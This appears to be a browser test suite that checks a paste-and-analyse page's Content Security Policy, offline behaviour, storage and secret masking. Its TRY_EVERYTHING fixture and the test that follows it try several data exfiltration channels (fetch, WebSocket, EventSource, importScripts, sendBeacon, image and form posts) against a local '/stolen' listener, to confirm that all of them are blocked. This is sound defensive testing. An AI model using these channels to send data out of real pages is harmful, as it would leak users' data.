// Nothing that is pasted can leave the tab, and the browser sees to it.
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { test } from 'node:test';
import { EXAMPLES } from '../../../www/examples.js';
import { answer, harness, paste } from '../support/harness.js';

const { open, url } = harness();

async function allAnswers(page) {
  const answers = [];
  for (const { text } of EXAMPLES) {
    await paste(page, text);
    answers.push(await answer(page));
  }
  return answers;
}

/** Waits until the worker has what causes say: all that the page ever loads. */
function loaded(page) {
  return page.waitForSelector('body[data-loaded]');
}

test('no request after load, and offline gives the same', async (t) => {
  const page = await open(t);
  await loaded(page);
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  const online = await allAnswers(page);
  await page.context().setOffline(true);
  assert.deepEqual(await allAnswers(page), online);
  // The worker itself starts from a blob: no network in that.
  assert.deepEqual(requests.filter((address) => !address.startsWith('blob:')), []);
});

test('an answer waits for its words, and what is loaded does not depend on it', async (t) => {
  const page = await open(t);
  const [{ text }] = EXAMPLES;
  await paste(page, text);
  const expected = await answer(page);
  const requests = [];
  let release;
  const held = new Promise((resolve) => {
    release = resolve;
  });
  await page.route('**/texts/*.js', async (route) => {
    requests.push(new URL(route.request().url()).pathname);
    if (!route.request().url().endsWith('/layers.js')) await held;
    await route.continue();
  });
  await page.reload();
  await page.waitForSelector('.example', { state: 'attached' });
  const pasted = paste(page, text);
  await page.waitForSelector('#answer[aria-busy="true"]');
  release();
  await pasted;
  assert.deepEqual(await answer(page), expected);
  await loaded(page);
  const withText = requests.splice(0);
  assert.ok(withText.length > 10, withText.join());
  await page.reload();
  await loaded(page);
  assert.deepEqual(requests, withText);
});

test('all that is loaded comes from the page’s own origin', async (t) => {
  const page = await open(t);
  await loaded(page);
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.reload();
  await loaded(page);
  assert.deepEqual(requests.filter((address) => !address.startsWith(url()) && !address.startsWith('blob:')), []);
});

/** Runs in the page or in a worker: tries every way out, gives those that opened. */
const TRY_EVERYTHING = `async (target) => {
  const out = [];
  const attempt = async (name, way) => { try { if (await way()) out.push(name); } catch { /* forbidden: as it should be */ } };
  await attempt('fetch', async () => { await fetch(target); return true; });
  await attempt('WebSocket', () => new Promise((resolve) => {
    const socket = new WebSocket(target.replace('http', 'ws'));
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  }));
  await attempt('EventSource', () => new Promise((resolve) => {
    const source = new EventSource(target);
    source.onopen = () => resolve(true);
    source.onerror = () => { source.close(); resolve(false); };
  }));
  await attempt('importScripts', () => { if (self.importScripts) { importScripts(target); return true; } return false; });
  return out;
}`;

/**
 * A listener that keeps what reaches it. Bytes count, not connections: for a
 * form Chromium opens one ahead, and sends nothing on it once the policy has
 * spoken.
 */
async function catcher(t) {
  const reached = [];
  const server = createServer((socket) => {
    socket.on('data', (data) => reached.push(String(data).split('\r\n')[0]));
    socket.on('error', () => {});
    t.after(() => socket.destroy());
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.close());
  return { address: `http://127.0.0.1:${server.address().port}/stolen`, reached };
}

test('the policy forbids every way out of the page', async (t) => {
  const page = await open(t);
  const { address: target, reached } = await catcher(t);
  const before = page.url();
  const result = await page.evaluate(
    async ([tries, address]) => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const opened = await (0, eval)(tries)(address);
      navigator.sendBeacon(address, 'x');
      await new Promise((resolve) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = resolve;
        image.src = address;
      });
      const form = document.body.appendChild(document.createElement('form'));
      form.method = 'post';
      form.action = address;
      form.submit();
      // Violations are reported in tasks of their own; the last one tells that all are here.
      while (!violations.includes('form-action')) {
        await new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve, { once: true }));
      }
      return { opened, violations: [...new Set(violations)].sort() };
    },
    [TRY_EVERYTHING, target],
  );
  assert.deepEqual(result.opened, []);
  assert.deepEqual(result.violations, ['connect-src', 'form-action', 'img-src']);
  assert.equal(page.url(), before);
  assert.deepEqual(reached, []);
});

test('the policy of the page holds in its worker too, on a host that sends no headers', async (t) => {
  const page = await open(t, { reports: [], otherwise: null });
  const { address: target, reached } = await catcher(t);
  // As a plain static host would serve it: the meta element alone protects.
  await page.route('**/*', async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    delete headers['content-security-policy'];
    await route.fulfill({ response, headers });
  });
  await page.goto(page.address);
  await page.waitForSelector('.example');
  await page.unrouteAll({ behavior: 'wait' });
  const opened = await page.evaluate(
    ([tries, address]) =>
      new Promise((resolve) => {
        const script = `(${tries})(${JSON.stringify(address)}).then((out) => postMessage(out));`;
        const worker = new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
        worker.onmessage = ({ data }) => resolve(data);
      }),
    [TRY_EVERYTHING, target],
  );
  assert.deepEqual(opened, []);
  assert.deepEqual(reached, []);
});

test('the server sends the policy and its companions', async (t) => {
  const page = await open(t);
  const { headers } = await page.evaluate(() => 0).then(async () => ({ headers: (await page.reload()).headers() }));
  const policy = headers['content-security-policy'];
  for (const part of ["default-src 'none'", "connect-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) {
    assert.ok(policy.includes(part), `no ${part}`);
  }
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|https?:/);
  assert.equal(headers['referrer-policy'], 'no-referrer');
  assert.equal(headers['x-content-type-options'], 'nosniff');
});

test('nothing of the input is stored', async (t) => {
  const page = await open(t);
  await paste(page, 'SMTP ERROR: secret-of-the-input');
  await page.click('#theme');
  const stored = await page.evaluate(async () => ({
    local: { ...localStorage },
    session: { ...sessionStorage },
    cookie: document.cookie,
    databases: await indexedDB.databases(),
  }));
  assert.deepEqual(stored, { local: { theme: 'dark' }, session: {}, cookie: '', databases: [] });
});

test('secrets do not come back', async (t) => {
  const page = await open(t);
  const secret = 'bm90LXRoZS1wYXNzd29yZA==';
  const [, wrong] = EXAMPLES;
  assert.ok(wrong.text.includes(secret));
  await paste(page, wrong.text);
  const { text } = await answer(page);
  assert.ok(!text.includes(secret) && !text.includes('not-the-password'));
  assert.match(text, /secrets? masked/);
});
